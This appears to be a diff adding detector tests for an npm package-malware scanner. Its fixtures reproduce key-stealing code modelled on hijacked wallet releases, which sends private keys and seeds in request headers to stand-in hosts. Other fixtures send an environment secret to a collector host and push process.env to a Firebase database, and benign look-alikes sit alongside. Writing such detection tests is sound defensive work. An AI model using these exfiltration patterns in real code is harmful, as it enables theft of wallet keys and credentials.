@@ -12,6 +12,7 @@ import { persistence } from '../../src/detectors/persistence/index.js';
 import { remoteCode } from '../../src/detectors/remote-code/index.js';
 import type { PackageDetector } from '../../src/detectors/types.js';
 import { analyzeJavaScript, assessObfuscation } from '../../src/analysis/javascript/index.js';
+import { fileBehaviour } from '../../src/analysis/behaviour/model.js';
 import { levelForScore, scoreFindings } from '../../src/report/levels.js';
 import { factsFromFixture, type FixtureFile } from '../support/package-fixture.js';
 
@@ -423,5 +424,103 @@ var stream = fd === 2 ? process.stderr : createWritableStdioStream(fd);
 `,
     }, { main: 'index.js' });
     expect(r.ids).not.toContain('exfiltration/flow');
+  });
+});
+
+describe('key material sent out (hijacked wallet releases) and look-alikes', () => {
+  it('a private key or wallet seed handed to a helper that puts it into a request is sent (@solana/web3.js 1.95.6, xrpl 4.2.1)', () => {
+    const solana = scan({
+      'lib/index.cjs.js': `function addToQueue(key) { fetch('https://sol-rpc.example/api/rpc/queue', { method: 'POST', headers: { 'x-amz-cf-id': key } }).catch(() => {}); }
+class Keypair { constructor(privateKey) { this._key = privateKey; addToQueue(privateKey); } }
+module.exports = { Keypair };
+`,
+    }, { main: 'lib/index.cjs.js' });
+    expect(solana.ids).toContain('exfiltration/flow');
+    const xrpl = scan({
+      'dist/wallet.js': `const { deriveKeypair } = require('ripple-keypairs');
+function checkValidityOfSeed(seed) { return fetch('https://0x9c.example/xrpl', { headers: { 'ad-referral': seed } }); }
+exports.fromSeed = function fromSeed(seed) { checkValidityOfSeed(seed); return deriveKeypair(seed); };
+`,
+    }, { main: 'dist/wallet.js' });
+    expect(xrpl.ids).toContain('exfiltration/flow');
+  });
+
+  it("an image model's sampling seed passed with a request is not key material (AI SDKs)", () => {
+    const r = scan({
+      'dist/index.js': `const getOriginalFetch = () => globalThis.fetch;
+async function postJsonToApi({ url, headers, body, fetch = getOriginalFetch() }) { return fetch(url, { method: 'POST', headers, body: JSON.stringify(body) }); }
+exports.generate = async function doGenerate({ prompt, size, seed }) {
+  return postJsonToApi({ url: 'https://api.images.example/v1/generate', headers: {}, body: { prompt, size, ...(seed && { seed }) } });
+};
+`,
+    }, { main: 'dist/index.js' });
+    expect(r.ids).not.toContain('exfiltration/flow');
+  });
+
+  it('a key reaching a request only through a chain of shared names is not sent (nostr-tools)', () => {
+    const r = scan({
+      'lib/index.js': `function finalizeEvent(t, secretKey) { const event = t; event.sig = sign(event.id, secretKey); return event; }
+function encodeRelays(event) { return (event.relays || []).map((url) => new TextEncoder().encode(url)); }
+exports.queryProfile = async function queryProfile(domain, name) { const url = 'https://' + domain + '/.well-known/nostr.json?name=' + name; return fetch(url); };
+exports.finalizeEvent = finalizeEvent; exports.encodeRelays = encodeRelays;
+`,
+    }, { main: 'lib/index.js' });
+    expect(r.ids).not.toContain('exfiltration/flow');
+  });
+});
+
+describe('a token sent to its own service', () => {
+  it("a vendor's secret sent to the vendor's own API is its SDK authenticating; sent elsewhere it is not", () => {
+    const own = scan({
+      'dist/client.js': `const BASE = 'https://api.zapier.com/v2';
+const secret = process.env.ZAPIER_CREDENTIALS_CLIENT_SECRET;
+const res = await fetch(BASE + '/oauth/token', { method: 'POST', body: JSON.stringify({ client_secret: secret }) });
+export default res;
+`,
+    }, { main: 'dist/client.js' });
+    expect(own.ids).not.toContain('exfiltration/flow');
+    const elsewhere = scan({
+      'dist/client.js': `const secret = process.env.ZAPIER_CREDENTIALS_CLIENT_SECRET;
+const res = await fetch('https://metrics.collector.example/c', { method: 'POST', body: JSON.stringify({ client_secret: secret }) });
+export default res;
+`,
+    }, { main: 'dist/client.js' });
+    expect(elsewhere.ids).toContain('exfiltration/flow');
+  });
+
+  it('GITHUB_TOKEN given to the GitHub API client (Octokit) to find a release, then the release downloaded, is its own service (wgc)', () => {
+    const r = scan({
+      'dist/download.js': `import { Octokit } from 'octokit';
+const octokit = new Octokit();
+const headers = process.env.GITHUB_TOKEN ? { authorization: 'token ' + process.env.GITHUB_TOKEN } : {};
+const releases = await octokit.request('GET /repos/acme/router/releases', { headers });
+const url = releases.data[0].assets[0].browser_download_url;
+const response = await fetch(url);
+export default response.body;
+`,
+    }, { main: 'dist/download.js' });
+    expect(['none', 'low']).toContain(r.level);
+  });
+});
+
+describe('remote clients', () => {
+  it("what a function of the file returns for a URL is not a remote client whose push() sends (autorest)", () => {
+    const source = `async function fetchPackageMetadata(u) { return { name: 'x', url: u }; }
+exports.list = async function list() {
+  const pm = await fetchPackageMetadata('https://github.com/acme/ext/releases/download/v1/ext.tgz');
+  const results = pm.items;
+  const overrides = { ...process.env, AUTOREST_HOME: '/tmp' };
+  results.push([overrides, '1.0.0']);
+  return results;
+};
+`;
+    const analysis = analyzeJavaScript(source);
+    expect(analysis.mode).toBe('ast');
+    if (analysis.mode !== 'ast') return;
+    expect(fileBehaviour(analysis).exfiltration).toEqual([]);
+    // A library's client made from a URL still is one.
+    const firebase = analyzeJavaScript(`const Firebase = require('firebase');\nconst db = new Firebase('https://x-default-rtdb.firebaseio.com/');\nconst node = db.child('runtime');\nnode.push(process.env);\n`);
+    if (firebase.mode !== 'ast') throw new Error('not parsed');
+    expect(fileBehaviour(firebase).exfiltration.length).toBeGreaterThan(0);
   });
 });
